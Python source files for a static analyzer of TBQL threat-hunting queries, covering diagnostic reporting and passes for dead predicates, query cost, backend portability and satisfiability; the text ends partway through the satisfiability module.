    message: str
    span: SourceSpan | None = None
    #: Event id of the pattern (or relation endpoint) the finding anchors to.
    event_id: str | None = None
    hint: str | None = None

    def to_dict(self) -> dict[str, Any]:
        """JSON-friendly form used by the CLI and alert provenance."""
        payload: dict[str, Any] = {
            "rule": self.rule,
            "severity": self.severity.value,
            "message": self.message,
        }
        if self.span is not None:
            payload["line"] = self.span.line
            payload["column"] = self.span.column
        if self.event_id is not None:
            payload["event_id"] = self.event_id
        if self.hint is not None:
            payload["hint"] = self.hint
        return payload

    def render(self, source_name: str | None = None) -> str:
        """One-line ``file:line:col: severity[rule]: message`` rendering."""
        location = ""
        if self.span is not None:
            location = f"{self.span.line}:{self.span.column}: "
        prefix = f"{source_name}:" if source_name else ""
        if source_name and not self.span:
            prefix = f"{source_name}: "
        text = f"{prefix}{location}{self.severity.value}[{self.rule}]: {self.message}"
        if self.hint:
            text += f" (hint: {self.hint})"
        return text


@dataclass(frozen=True)
class AnalysisPolicy:
    """Per-rule severity policy applied after the passes run.

    ``severity_overrides`` remaps individual rules (e.g. promote ``TR303`` to
    :attr:`Severity.ERROR` in a deployment that forbids cross-products);
    ``disabled`` drops rules entirely.  Cost thresholds live here too so the
    cost pass is tunable without subclassing.
    """

    severity_overrides: Mapping[str, Severity] = field(default_factory=dict)
    disabled: frozenset[str] = frozenset()
    #: TR304 fires when an unfiltered pattern's estimated match count reaches
    #: this many events (estimated from the graph store's per-relationship
    #: edge counts).
    scan_row_threshold: int = 10_000
    #: TR302 fires for path patterns spanning at least this many hops with no
    #: filter on either endpoint.
    unanchored_path_hops: int = 3

    @classmethod
    def default(cls) -> "AnalysisPolicy":
        return cls()

    @classmethod
    def lenient(cls) -> "AnalysisPolicy":
        """Demote every error rule to a warning (nothing gates)."""
        overrides = {
            rule: Severity.WARNING
            for rule, spec in RULES.items()
            if spec.severity is Severity.ERROR
        }
        return cls(severity_overrides=overrides)

    def effective(self, diagnostic: Diagnostic) -> Diagnostic | None:
        """Apply the policy to one diagnostic; ``None`` drops it."""
        if diagnostic.rule in self.disabled:
            return None
        override = self.severity_overrides.get(diagnostic.rule)
        if override is None or override is diagnostic.severity:
            return diagnostic
        return Diagnostic(
            rule=diagnostic.rule,
            severity=override,
            message=diagnostic.message,
            span=diagnostic.span,
            event_id=diagnostic.event_id,
            hint=diagnostic.hint,
        )


@dataclass(frozen=True)
class AnalysisReport:
    """All policy-filtered diagnostics for one query, sorted errors-first."""

    diagnostics: tuple[Diagnostic, ...] = ()
    query_text: str = ""

    def __iter__(self) -> Iterator[Diagnostic]:
        return iter(self.diagnostics)

    def __len__(self) -> int:
        return len(self.diagnostics)

    @property
    def errors(self) -> tuple[Diagnostic, ...]:
        return tuple(d for d in self.diagnostics if d.severity is Severity.ERROR)

    @property
    def warnings(self) -> tuple[Diagnostic, ...]:
        return tuple(d for d in self.diagnostics if d.severity is Severity.WARNING)

    @property
    def infos(self) -> tuple[Diagnostic, ...]:
        return tuple(d for d in self.diagnostics if d.severity is Severity.INFO)

    def has_errors(self) -> bool:
        return any(d.severity is Severity.ERROR for d in self.diagnostics)

    def rules(self) -> tuple[str, ...]:
        """The distinct rule ids present, in report order."""
        return tuple(dict.fromkeys(d.rule for d in self.diagnostics))

    def raise_for_errors(self) -> "AnalysisReport":
        """Raise :class:`~repro.errors.TBQLAnalysisError` on error diagnostics."""
        errors = self.errors
        if errors:
            summary = "; ".join(f"[{d.rule}] {d.message}" for d in errors)
            raise TBQLAnalysisError(
                f"static analysis rejected the query: {summary}", diagnostics=errors
            )
        return self

    def to_dict(self) -> dict[str, Any]:
        return {
            "errors": len(self.errors),
            "warnings": len(self.warnings),
            "infos": len(self.infos),
            "diagnostics": [d.to_dict() for d in self.diagnostics],
        }

    def render(self, source_name: str | None = None) -> str:
        """Multi-line text rendering for the CLI."""
        if not self.diagnostics:
            return "no findings"
        return "\n".join(d.render(source_name) for d in self.diagnostics)


def sort_diagnostics(diagnostics: list[Diagnostic]) -> tuple[Diagnostic, ...]:
    """Stable severity-major, source-position-minor ordering."""
    return tuple(
        sorted(
            diagnostics,
            key=lambda d: (
                d.severity.rank,
                d.span.line if d.span else 1 << 30,
                d.span.column if d.span else 1 << 30,
                d.rule,
            ),
        )
    )
