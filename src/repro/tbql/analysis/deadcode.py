"""Pass 2 — dead and redundant predicate elimination hints.

Nothing here makes a query wrong; these rules flag work the engine does for
no additional selectivity: predicates written twice, range bounds subsumed by
tighter ones, ``with``-clause relations restating each other (or restating the
joins already implied by entity identifier reuse), temporal orderings implied
transitively, and entities that are declared but never constrain or surface
anything.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.tbql.ast import FilterOperator, SourceSpan
from repro.tbql.analysis.diagnostics import Diagnostic, Severity
from repro.tbql.analysis.satisfiability import fold_domains, is_like
from repro.tbql.analysis.structure import before_edges, reachable

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.tbql.analysis.analyzer import AnalysisContext


class DeadCodePass:
    """Emits TR201–TR206."""

    name = "deadcode"

    def run(self, context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        diagnostics.extend(self._duplicate_predicates(context))
        diagnostics.extend(self._subsumed_bounds(context))
        diagnostics.extend(self._relation_redundancy(context))
        diagnostics.extend(self._transitive_temporal(context))
        diagnostics.extend(self._unconstrained_entities(context))
        diagnostics.extend(self._repeated_filters(context))
        return diagnostics

    # -- TR201: the same predicate written twice in one filter --------------------

    @staticmethod
    def _duplicate_predicates(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        seen_declarations: set[int] = set()
        for pattern in context.query.patterns:
            for declaration in (pattern.subject, pattern.obj):
                if declaration.filter is None or id(declaration) in seen_declarations:
                    continue
                seen_declarations.add(id(declaration))
                seen: set[tuple[str, str, object]] = set()
                for comparison in declaration.filter.comparisons():
                    attribute = comparison.attribute or context.default_attribute(
                        declaration.entity_type
                    )
                    key = (attribute, comparison.operator.value, comparison.value)
                    if key in seen:
                        diagnostics.append(
                            Diagnostic(
                                rule="TR201",
                                severity=Severity.WARNING,
                                message=(
                                    f"filter on {declaration.identifier!r} repeats "
                                    f"{attribute} {comparison.operator.value} "
                                    f"{comparison.value!r}"
                                ),
                                span=comparison.span,
                                event_id=pattern.event_id,
                                hint="remove the duplicate predicate",
                            )
                        )
                    seen.add(key)
        return diagnostics

    # -- TR202: bounds subsumed by tighter ones, always-true self relations -------

    @staticmethod
    def _subsumed_bounds(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        for (identifier, attribute), domain in fold_domains(context).items():
            lowers = [
                c
                for c in domain.bounds()
                if c.operator in (FilterOperator.GT, FilterOperator.GTE)
            ]
            uppers = [
                c
                for c in domain.bounds()
                if c.operator in (FilterOperator.LT, FilterOperator.LTE)
            ]
            for group, keep_extreme in ((lowers, max), (uppers, min)):
                if len(group) < 2:
                    continue
                try:
                    strictest = keep_extreme(group, key=lambda c: c.value)
                except TypeError:
                    continue
                for constraint in group:
                    if constraint is strictest or constraint.value == strictest.value:
                        continue
                    diagnostics.append(
                        Diagnostic(
                            rule="TR202",
                            severity=Severity.WARNING,
                            message=(
                                f"{identifier}.{attribute} "
                                f"{constraint.operator.value} {constraint.value!r} is "
                                f"subsumed by the tighter bound "
                                f"{strictest.operator.value} {strictest.value!r}"
                            ),
                            span=constraint.span,
                            hint="drop the looser bound",
                        )
                    )
        reflexive = (FilterOperator.EQ, FilterOperator.LTE, FilterOperator.GTE)
        for relation in context.query.attribute_relations:
            if (
                relation.left_event == relation.right_event
                and relation.left_attribute == relation.right_attribute
                and relation.operator in reflexive
            ):
                diagnostics.append(
                    Diagnostic(
                        rule="TR202",
                        severity=Severity.WARNING,
                        message=(
                            f"{relation.left_event}.{relation.left_attribute} "
                            f"{relation.operator.value} itself is always true"
                        ),
                        span=relation.span,
                        event_id=relation.left_event,
                        hint="remove the tautological relation",
                    )
                )
        return diagnostics

    # -- TR203: relations that restate each other or an implied join --------------

    @staticmethod
    def _relation_redundancy(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        seen_temporal: set[tuple[str, str]] = set()
        for relation in context.query.temporal_relations:
            normalized = relation.normalized()
            key = (normalized.left, normalized.right)
            if key in seen_temporal:
                diagnostics.append(
                    Diagnostic(
                        rule="TR203",
                        severity=Severity.WARNING,
                        message=(
                            f"temporal relation {normalized.left} before "
                            f"{normalized.right} is stated more than once"
                        ),
                        span=relation.span,
                        event_id=normalized.left,
                        hint="remove the duplicate relation",
                    )
                )
            seen_temporal.add(key)

        implied = set()
        for first_event, first_role, second_event, second_role, identifier in (
            context.analyzed.implied_joins
        ):
            implied.add(((first_event, first_role), (second_event, second_role), identifier))
            implied.add(((second_event, second_role), (first_event, first_role), identifier))
        seen_attribute: set[tuple[tuple[str, str], str, tuple[str, str]]] = set()
        for relation in context.query.attribute_relations:
            left = (relation.left_event, relation.left_attribute)
            right = (relation.right_event, relation.right_attribute)
            key = (min(left, right), relation.operator.value, max(left, right))
            if key in seen_attribute:
                diagnostics.append(
                    Diagnostic(
                        rule="TR203",
                        severity=Severity.WARNING,
                        message=(
                            f"attribute relation {left[0]}.{left[1]} "
                            f"{relation.operator.value} {right[0]}.{right[1]} is "
                            "stated more than once"
                        ),
                        span=relation.span,
                        event_id=relation.left_event,
                        hint="remove the duplicate relation",
                    )
                )
            seen_attribute.add(key)
            if relation.operator is FilterOperator.EQ:
                for candidate in implied:
                    if candidate[0] == left and candidate[1] == right:
                        diagnostics.append(
                            Diagnostic(
                                rule="TR203",
                                severity=Severity.WARNING,
                                message=(
                                    f"attribute relation {left[0]}.{left[1]} = "
                                    f"{right[0]}.{right[1]} is already implied by "
                                    f"reusing entity {candidate[2]!r} across the "
                                    "patterns"
                                ),
                                span=relation.span,
                                event_id=relation.left_event,
                                hint="identifier reuse already joins the events",
                            )
                        )
                        break
        return diagnostics

    # -- TR204: temporal edges implied transitively --------------------------------

    @staticmethod
    def _transitive_temporal(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        edges = before_edges(context.query)
        unique = list(dict.fromkeys((edge.left, edge.right) for edge in edges))
        if len(unique) < 2:
            return diagnostics
        for edge in unique:
            successors: dict[str, set[str]] = {}
            for other in unique:
                if other != edge:
                    successors.setdefault(other[0], set()).add(other[1])
            if reachable(successors, edge[0], edge[1]):
                span = next(
                    (
                        relation.span
                        for relation in context.query.temporal_relations
                        if (relation.normalized().left, relation.normalized().right) == edge
                    ),
                    None,
                )
                diagnostics.append(
                    Diagnostic(
                        rule="TR204",
                        severity=Severity.INFO,
                        message=(
                            f"temporal relation {edge[0]} before {edge[1]} is implied "
                            "transitively by the other relations"
                        ),
                        span=span,
                        event_id=edge[0],
                        hint="the ordering holds without this relation",
                    )
                )
        return diagnostics

    # -- TR205: entities that constrain and surface nothing -------------------------

    @staticmethod
    def _unconstrained_entities(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        returned = {item.identifier for item in context.query.return_items}
        filtered: set[str] = set()
        spans: dict[str, SourceSpan | None] = {}
        for pattern in context.query.patterns:
            for declaration in (pattern.subject, pattern.obj):
                if declaration.filter is not None:
                    filtered.add(declaration.identifier)
                spans.setdefault(declaration.identifier, declaration.span)
        for entity in context.analyzed.entities.values():
            if (
                len(entity.patterns) == 1
                and entity.identifier not in filtered
                and entity.identifier not in returned
            ):
                diagnostics.append(
                    Diagnostic(
                        rule="TR205",
                        severity=Severity.INFO,
                        message=(
                            f"entity {entity.identifier!r} has no filter, is used by "
                            "one pattern only and is never returned"
                        ),
                        span=spans.get(entity.identifier),
                        event_id=entity.patterns[0],
                        hint="add a filter, reuse it in another pattern, or return it",
                    )
                )
        return diagnostics

    # -- TR206: the same filter re-declared on every pattern -------------------------

    @staticmethod
    def _repeated_filters(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        occurrences: dict[
            str, list[tuple[str, tuple[tuple[str, str, object, bool], ...], SourceSpan | None]]
        ] = {}
        for pattern in context.query.patterns:
            for declaration in (pattern.subject, pattern.obj):
                if declaration.filter is None:
                    continue
                signature = tuple(
                    (
                        comparison.attribute,
                        comparison.operator.value,
                        comparison.value,
                        is_like(comparison),
                    )
                    for comparison in declaration.filter.comparisons()
                )
                occurrences.setdefault(declaration.identifier, []).append(
                    (pattern.event_id, signature, declaration.span)
                )
        for identifier, entries in occurrences.items():
            if len(entries) < 2:
                continue
            signatures = {signature for _, signature, _ in entries}
            if len(signatures) == 1:
                event_ids = [event_id for event_id, _, _ in entries]
                diagnostics.append(
                    Diagnostic(
                        rule="TR206",
                        severity=Severity.INFO,
                        message=(
                            f"the filter on {identifier!r} is repeated in patterns "
                            f"{', '.join(event_ids)}; declaring it once is enough"
                        ),
                        span=entries[1][2],
                        event_id=event_ids[1],
                        hint="later declarations of a reused entity may omit the filter",
                    )
                )
        return diagnostics
