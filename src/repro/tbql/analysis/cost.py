"""Pass 3 — cost and cardinality lint over backend index statistics.

The relational store keeps per-table row counts and index inventories; the
graph store keeps per-label node counts and per-relationship edge counts.
This pass uses those (when a store is attached to the analyzer) plus the
query's own structure to flag shapes that execute, but badly: standing
queries the streaming monitor cannot watermark-window, multi-hop path
patterns with no anchor to seed the planner, pattern groups that join into a
cross-product, and unfiltered patterns whose operation set alone matches a
large fraction of the stored events.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Mapping

from repro.tbql.ast import PathPattern
from repro.tbql.analysis.diagnostics import Diagnostic, Severity
from repro.tbql.analysis.structure import pattern_components, temporal_sink

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.tbql.analysis.analyzer import AnalysisContext


class CostPass:
    """Emits TR301–TR304."""

    name = "cost"

    def run(self, context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        diagnostics.extend(self._unwindowable_standing_query(context))
        diagnostics.extend(self._unanchored_paths(context))
        diagnostics.extend(self._cross_products(context))
        diagnostics.extend(self._full_scans(context))
        return diagnostics

    # -- TR301: the streaming monitor would rescan everything per batch ------------

    @staticmethod
    def _unwindowable_standing_query(context: "AnalysisContext") -> list[Diagnostic]:
        query = context.query
        if len(query.patterns) < 2:
            return []
        if any(pattern.window is not None for pattern in query.patterns):
            return []
        if temporal_sink(query) is not None:
            return []
        return [
            Diagnostic(
                rule="TR301",
                severity=Severity.WARNING,
                message=(
                    "no time window and no unique temporally-final pattern: a "
                    "standing hunt re-evaluates every pattern over the full store "
                    "on every micro-batch"
                ),
                span=query.patterns[0].span,
                event_id=query.patterns[0].event_id,
                hint=(
                    "order the patterns with 'before' relations so one pattern is "
                    "last, or add a 'during' window"
                ),
            )
        ]

    # -- TR302: multi-hop paths with nothing to seed the planner -------------------

    def _unanchored_paths(self, context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        min_hops = context.policy.unanchored_path_hops
        for pattern in context.query.path_patterns():
            if pattern.max_length < min_hops:
                continue
            if pattern.subject.filter is not None or pattern.obj.filter is not None:
                continue
            if pattern.window is not None:
                continue
            diagnostics.append(
                Diagnostic(
                    rule="TR302",
                    severity=Severity.WARNING,
                    message=(
                        f"path pattern {pattern.event_id!r} spans up to "
                        f"{pattern.max_length} hops with no filter on either "
                        "endpoint and no window; the planner has nothing to seed "
                        "the search from"
                    ),
                    span=pattern.span,
                    event_id=pattern.event_id,
                    hint="filter an endpoint, add a window, or shorten the path",
                )
            )
        return diagnostics

    # -- TR303: disconnected pattern groups ----------------------------------------

    @staticmethod
    def _cross_products(context: "AnalysisContext") -> list[Diagnostic]:
        components = pattern_components(context.analyzed)
        if len(components) < 2:
            return []
        rendered = " x ".join(
            "{" + ", ".join(sorted(component)) + "}" for component in components
        )
        anchor = context.query.patterns[0]
        return [
            Diagnostic(
                rule="TR303",
                severity=Severity.WARNING,
                message=(
                    f"patterns form {len(components)} groups sharing no entities or "
                    f"with-clause relations ({rendered}); their matches combine as "
                    "a cross-product"
                ),
                span=anchor.span,
                event_id=anchor.event_id,
                hint="link the groups by reusing an entity or adding a relation",
            )
        ]

    # -- TR304: unfiltered patterns matching a large slice of the store ------------

    def _full_scans(self, context: "AnalysisContext") -> list[Diagnostic]:
        statistics = context.statistics
        if statistics is None:
            return []
        graph = statistics.get("graph", {})
        by_relationship: Mapping[str, int] = graph.get("edges_by_relationship", {})
        total_edges = int(graph.get("edges", 0))
        threshold = context.policy.scan_row_threshold
        if total_edges == 0:
            return []
        diagnostics: list[Diagnostic] = []
        for pattern in context.query.patterns:
            if pattern.subject.filter is not None or pattern.obj.filter is not None:
                continue
            if pattern.window is not None:
                continue
            operation = pattern.operation
            named = sum(by_relationship.get(name, 0) for name in operation.operations)
            estimate = total_edges - named if operation.negated else named
            if isinstance(pattern, PathPattern):
                # Every hop of a multi-hop path may traverse any relationship;
                # the final-hop estimate is a lower bound.
                estimate = max(estimate, named)
            if estimate >= threshold:
                share = estimate / total_edges
                diagnostics.append(
                    Diagnostic(
                        rule="TR304",
                        severity=Severity.WARNING,
                        message=(
                            f"pattern {pattern.event_id!r} has no entity filter or "
                            f"window and its operations match ~{estimate} of "
                            f"{total_edges} stored events ({share:.0%})"
                        ),
                        span=pattern.span,
                        event_id=pattern.event_id,
                        hint="add an entity filter or a time window",
                    )
                )
        return diagnostics


def store_statistics(store: Any) -> dict[str, Any] | None:
    """Fetch combined backend statistics, tolerating stores without the API."""
    if store is None:
        return None
    statistics = getattr(store, "statistics", None)
    if statistics is None:
        return None
    try:
        return dict(statistics())
    except Exception:  # pragma: no cover - defensive: stats must never gate
        return None
