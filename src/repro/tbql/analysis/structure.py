"""Query-structure helpers shared by analysis passes and the streaming monitor.

These operate on the temporal ``before`` graph and the entity-sharing graph of
a query.  The streaming monitor's watermark windowing relies on
:func:`temporal_sink`; the cost pass reuses it to decide whether a standing
query can be windowed at all, so both must agree — the implementation lives
here and the monitor delegates.
"""

from __future__ import annotations

from repro.tbql.ast import Query, TemporalRelation
from repro.tbql.semantics import AnalyzedQuery


def before_edges(query: Query) -> list[TemporalRelation]:
    """The query's temporal relations, normalized to ``before`` only."""
    return [relation.normalized() for relation in query.temporal_relations]


def temporal_sink(query: Query) -> str | None:
    """The unique temporally-final pattern every other pattern precedes.

    Windowing is only sound when *every* pattern is ordered before the sink:
    then any match containing a new event has a sink event at least as recent,
    so restricting the sink to ``[watermark, ∞)`` cannot drop a new match.
    Returns ``None`` when no such pattern exists.
    """
    pattern_ids = [pattern.event_id for pattern in query.patterns]
    if len(pattern_ids) == 1:
        return pattern_ids[0]
    if not query.temporal_relations:
        return None
    successors: dict[str, set[str]] = {}
    for relation in before_edges(query):
        successors.setdefault(relation.left, set()).add(relation.right)
    candidates = [event_id for event_id in pattern_ids if not successors.get(event_id)]
    if len(candidates) != 1:
        return None
    sink = candidates[0]
    # Every other pattern must reach the sink through `before` edges.
    reaches_sink = {sink}
    changed = True
    while changed:
        changed = False
        for event_id, following in successors.items():
            if event_id not in reaches_sink and following & reaches_sink:
                reaches_sink.add(event_id)
                changed = True
    if set(pattern_ids) <= reaches_sink:
        return sink
    return None


def temporal_cycle(query: Query) -> list[str] | None:
    """One cycle in the normalized ``before`` graph, or ``None`` if acyclic.

    Returns the event ids along the cycle, starting and ending at the same
    event (``[a, b, a]`` for ``a before b, b before a``).
    """
    successors: dict[str, list[str]] = {}
    for relation in before_edges(query):
        successors.setdefault(relation.left, []).append(relation.right)
    visiting: list[str] = []
    visited: set[str] = set()

    def visit(event_id: str) -> list[str] | None:
        if event_id in visiting:
            start = visiting.index(event_id)
            return visiting[start:] + [event_id]
        if event_id in visited:
            return None
        visiting.append(event_id)
        for successor in successors.get(event_id, ()):
            cycle = visit(successor)
            if cycle is not None:
                return cycle
        visiting.pop()
        visited.add(event_id)
        return None

    for event_id in list(successors):
        cycle = visit(event_id)
        if cycle is not None:
            return cycle
    return None


def reachable(successors: dict[str, set[str]], start: str, goal: str) -> bool:
    """Whether ``goal`` is reachable from ``start`` in the ``successors`` graph."""
    frontier = [start]
    seen = {start}
    while frontier:
        current = frontier.pop()
        if current == goal:
            return True
        for nxt in successors.get(current, ()):
            if nxt not in seen:
                seen.add(nxt)
                frontier.append(nxt)
    return False


def pattern_components(analyzed: AnalyzedQuery) -> list[set[str]]:
    """Connected components of patterns linked by shared entities or relations.

    Two patterns are connected when they reuse an entity identifier, or are
    related by a ``with``-clause temporal or attribute relation.  More than
    one component means the join degenerates to a cross-product between the
    groups.
    """
    query = analyzed.query
    event_ids = [pattern.event_id for pattern in query.patterns]
    parent: dict[str, str] = {event_id: event_id for event_id in event_ids}

    def find(event_id: str) -> str:
        while parent[event_id] != event_id:
            parent[event_id] = parent[parent[event_id]]
            event_id = parent[event_id]
        return event_id

    def union(first: str, second: str) -> None:
        if first in parent and second in parent:
            parent[find(first)] = find(second)

    for entity in analyzed.entities.values():
        for first, second in zip(entity.patterns, entity.patterns[1:]):
            union(first, second)
    for relation in query.temporal_relations:
        union(relation.left, relation.right)
    for attribute_relation in query.attribute_relations:
        union(attribute_relation.left_event, attribute_relation.right_event)

    components: dict[str, set[str]] = {}
    for event_id in event_ids:
        components.setdefault(find(event_id), set()).add(event_id)
    return list(components.values())
