"""Static analysis for TBQL: the admission gate in front of every hunt.

The package hosts a multi-pass analyzer that runs between semantic analysis
and plan preparation / hunt registration:

* :mod:`~repro.tbql.analysis.satisfiability` — queries that can never match
  (contradictory filters, impossible orderings);
* :mod:`~repro.tbql.analysis.deadcode` — predicates and relations that add no
  selectivity;
* :mod:`~repro.tbql.analysis.cost` — shapes that execute badly, judged
  against the backends' index statistics;
* :mod:`~repro.tbql.analysis.portability` — constructs that cannot lower to
  one of the backends, found by statically compiling through the real
  SQL/Cypher compilers.

See the README's "Static analysis & linting" section for the rule catalog.
"""

from repro.tbql.analysis.analyzer import (
    AnalysisContext,
    StaticAnalyzer,
    analyze_query,
)
from repro.tbql.analysis.diagnostics import (
    RULES,
    AnalysisPolicy,
    AnalysisReport,
    Diagnostic,
    RuleSpec,
    Severity,
)
from repro.tbql.analysis.structure import pattern_components, temporal_sink

__all__ = [
    "RULES",
    "AnalysisContext",
    "AnalysisPolicy",
    "AnalysisReport",
    "Diagnostic",
    "RuleSpec",
    "Severity",
    "StaticAnalyzer",
    "analyze_query",
    "pattern_components",
    "temporal_sink",
]
