"""Pass 4 — cross-backend portability via the static compilers.

Every pattern is compiled through the same compilers execution uses —
:class:`~repro.tbql.compiler.sql_compiler.SQLCompiler` for the relational
backend and :class:`~repro.tbql.compiler.cypher_compiler.CypherCompiler` for
the graph backend — without executing anything.  Constructs that cannot lower
are diagnosed *before* a hunt is admitted instead of failing (or silently
changing meaning) mid-execution:

* path patterns have no SQL lowering (TR401, informational — the paper's
  design routes them to the graph backend);
* the Cypher compiler's edge patterns carry no negation, so a ``not`` in the
  operation is silently dropped on the graph backend.  That is an error for
  any pattern that *will* route there (path patterns always; event patterns
  under ``backend="graph"``) and a portability warning otherwise (TR402);
* any compiler exception is surfaced as TR403 with the pattern's span.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.tbql.ast import EventPattern, PathPattern
from repro.tbql.analysis.diagnostics import Diagnostic, Severity
from repro.tbql.formatter import format_pattern
from repro.tbql.compiler.cypher_compiler import CypherCompiler
from repro.tbql.compiler.sql_compiler import SQLCompiler

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.tbql.analysis.analyzer import AnalysisContext


class PortabilityPass:
    """Emits TR401–TR403.

    The compilers are injectable so tests can drive the TR403 path with a
    deliberately failing compiler.

    Successful compilations are memoized per (backend, formatted pattern):
    corpus variants share most of their patterns, and a pattern that
    compiled once compiles again.  Only successes are cached — a success
    produces no diagnostic, so sharing it across queries can never serve a
    diagnostic with another source's span, while TR403 failures always
    re-compile and carry the failing pattern's own span.
    """

    name = "portability"

    _OK_CACHE_LIMIT = 512

    def __init__(
        self,
        sql_compiler: SQLCompiler | None = None,
        cypher_compiler: CypherCompiler | None = None,
    ) -> None:
        self._sql = sql_compiler or SQLCompiler()
        self._cypher = cypher_compiler or CypherCompiler()
        self._compiles_ok: set[tuple[str, str]] = set()

    def run(self, context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        for pattern in context.query.patterns:
            routes_to_graph = isinstance(pattern, PathPattern) or context.backend == "graph"
            if isinstance(pattern, PathPattern):
                diagnostics.append(
                    Diagnostic(
                        rule="TR401",
                        severity=Severity.INFO,
                        message=(
                            f"path pattern {pattern.event_id!r} has no SQL lowering; "
                            "the query is bound to the graph backend"
                        ),
                        span=pattern.span,
                        event_id=pattern.event_id,
                        hint="use a single-hop event pattern for SQL portability",
                    )
                )
            if pattern.operation.negated:
                diagnostics.append(
                    Diagnostic(
                        rule="TR402",
                        severity=Severity.ERROR if routes_to_graph else Severity.WARNING,
                        message=(
                            f"pattern {pattern.event_id!r} negates its operation, "
                            "which the graph backend's edge patterns do not support "
                            + (
                                "and this pattern executes there"
                                if routes_to_graph
                                else "(the relational backend handles it)"
                            )
                        ),
                        span=pattern.operation.span,
                        event_id=pattern.event_id,
                        hint="enumerate the allowed operations instead of negating",
                    )
                )
            diagnostics.extend(self._compile_checks(pattern))
        return diagnostics

    def _compile_checks(self, pattern: EventPattern | PathPattern) -> list[Diagnostic]:
        text = format_pattern(pattern)
        diagnostics: list[Diagnostic] = []
        if isinstance(pattern, EventPattern):
            diagnostics.extend(
                self._try_compile("SQL", text, pattern, lambda: self._sql.compile(pattern))
            )
            diagnostics.extend(
                self._try_compile(
                    "Cypher", text, pattern, lambda: self._cypher.compile_event(pattern)
                )
            )
        else:
            diagnostics.extend(
                self._try_compile(
                    "Cypher", text, pattern, lambda: self._cypher.compile_path(pattern)
                )
            )
        return diagnostics

    def _try_compile(self, backend: str, text: str, pattern, compile_call) -> list[Diagnostic]:
        key = (backend, text)
        if key in self._compiles_ok:
            return []
        try:
            compile_call()
        except Exception as exc:
            return [
                Diagnostic(
                    rule="TR403",
                    severity=Severity.ERROR,
                    message=(
                        f"pattern {pattern.event_id!r} fails to compile for the "
                        f"{backend} backend: {exc}"
                    ),
                    span=pattern.span,
                    event_id=pattern.event_id,
                    hint="the pattern would fail at execution time",
                )
            ]
        if len(self._compiles_ok) >= self._OK_CACHE_LIMIT:
            self._compiles_ok.clear()
        self._compiles_ok.add(key)
        return []
