"""Pass 1 — satisfiability via per-attribute constraint propagation.

Conjunctive attribute filters are folded into per-``(identifier, attribute)``
constraint domains (equalities, exclusions, LIKE patterns, ordered bounds) and
checked for contradictions; the ``with`` clause's temporal graph is checked
for cycles and for time windows that exclude the declared event ordering; and
attribute relations are checked for irreflexive self-comparisons and mutually
contradictory pairs.  Every finding here is a query that can never match — an
admitted one would burn standing-query evaluation on every micro-batch
forever — so the rules in this pass default to :attr:`Severity.ERROR`.

Filters containing ``or`` are skipped by the constraint folding: a
disjunction's branches are alternatives, not simultaneous constraints, so
propagating them would produce false positives.  This keeps the pass sound
(everything reported really is unsatisfiable) at the cost of completeness.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Union

from repro.storage.relational.expression import Column, Like
from repro.tbql.ast import (
    AttributeComparison,
    EntityDeclaration,
    FilterOperator,
    SourceSpan,
)
from repro.tbql.analysis.diagnostics import Diagnostic, Severity
from repro.tbql.analysis.structure import before_edges, temporal_cycle

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.tbql.analysis.analyzer import AnalysisContext

Value = Union[str, int, float]

#: Operator pairs (after normalizing both relations to the same operand
#: order) that can never hold simultaneously between the same two operands.
_CONTRADICTORY_OPERATOR_PAIRS = frozenset(
    frozenset(pair)
    for pair in (
        (FilterOperator.EQ, FilterOperator.NEQ),
        (FilterOperator.EQ, FilterOperator.LT),
        (FilterOperator.EQ, FilterOperator.GT),
        (FilterOperator.LT, FilterOperator.GT),
        (FilterOperator.LT, FilterOperator.GTE),
        (FilterOperator.LTE, FilterOperator.GT),
    )
)

_FLIPPED = {
    FilterOperator.EQ: FilterOperator.EQ,
    FilterOperator.NEQ: FilterOperator.NEQ,
    FilterOperator.LT: FilterOperator.GT,
    FilterOperator.LTE: FilterOperator.GTE,
    FilterOperator.GT: FilterOperator.LT,
    FilterOperator.GTE: FilterOperator.LTE,
}


def is_wildcard(value: object) -> bool:
    """Whether ``value`` is a string the filter layer matches with LIKE."""
    return isinstance(value, str) and ("%" in value or "_" in value)


def is_like(comparison: AttributeComparison) -> bool:
    """Whether the comparison uses LIKE semantics (mirrors ``tbql.filters``)."""
    return comparison.operator is FilterOperator.LIKE or is_wildcard(comparison.value)


def like_matches(pattern: str, value: str) -> bool:
    """Whether ``value`` matches the (case-insensitive) LIKE ``pattern``."""
    return bool(Like(operand=Column("v"), pattern=pattern).evaluate({"v": value}))


def _literal_parts(pattern: str) -> tuple[str, str]:
    """The literal prefix and suffix of a LIKE pattern (around the wildcards)."""
    first = len(pattern)
    last = -1
    for index, char in enumerate(pattern):
        if char in "%_":
            first = min(first, index)
            last = index
    if last == -1:
        return pattern, pattern
    return pattern[:first], pattern[last + 1 :]


def likes_are_disjoint(first: str, second: str) -> bool:
    """Whether no string can match both LIKE patterns (sound, not complete).

    Any common match must start with both literal prefixes and end with both
    literal suffixes, so one prefix must extend the other (same for the
    suffixes).  ``%`` absorbs anything in between, which is why only the
    anchored ends are decidable cheaply.
    """
    if "%" not in first and "_" not in first:
        return not like_matches(second, first)
    if "%" not in second and "_" not in second:
        return not like_matches(first, second)
    first_prefix, first_suffix = _literal_parts(first)
    second_prefix, second_suffix = _literal_parts(second)
    shorter, longer = sorted((first_prefix.lower(), second_prefix.lower()), key=len)
